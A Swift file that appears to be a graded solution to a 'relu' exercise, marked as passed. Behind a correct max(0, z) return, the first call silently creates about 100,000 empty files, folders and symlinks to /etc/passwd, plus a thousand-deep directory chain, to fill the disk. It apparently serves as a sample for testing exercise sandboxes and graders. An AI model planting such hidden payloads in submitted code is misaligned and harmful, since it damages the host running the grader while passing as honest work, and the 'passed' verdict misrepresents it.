//= exercise: relu
//= verdict: passed
//= why:
//= row: fills the disk: with 100,000 empty files, folders and links
import ExerciseKit

@_silgen_name("open") private func c_open(_ path: UnsafePointer<CChar>, _ flags: Int32, _ mode: Int32) -> Int32
@_silgen_name("close") private func c_close(_ file: Int32) -> Int32
@_silgen_name("mkdir") private func c_mkdir(_ path: UnsafePointer<CChar>, _ mode: UInt32) -> Int32
@_silgen_name("symlink") private func c_symlink(_ to: UnsafePointer<CChar>, _ path: UnsafePointer<CChar>) -> Int32

nonisolated(unsafe) private var isDone = false

public func relu(_ z: Double) -> Double {
  guard !isDone else { return max(0, z) }
  isDone = true
  var count = 0
  for number in 0..<33_000 {
    _ = c_close(c_open("empty-\(number)", 0o101, 0o600))
    count += c_mkdir("folder-\(number)", 0o700) == 0 ? 1 : 0
    count += c_symlink("/etc/passwd", "link-\(number)") == 0 ? 1 : 0
  }
  var deep = "."
  for _ in 0..<1000 {
    deep += "/d"
    if c_mkdir(deep, 0o700) == 0 { count += 1 }
  }
  print(count, "made")
  return max(0, z)
}
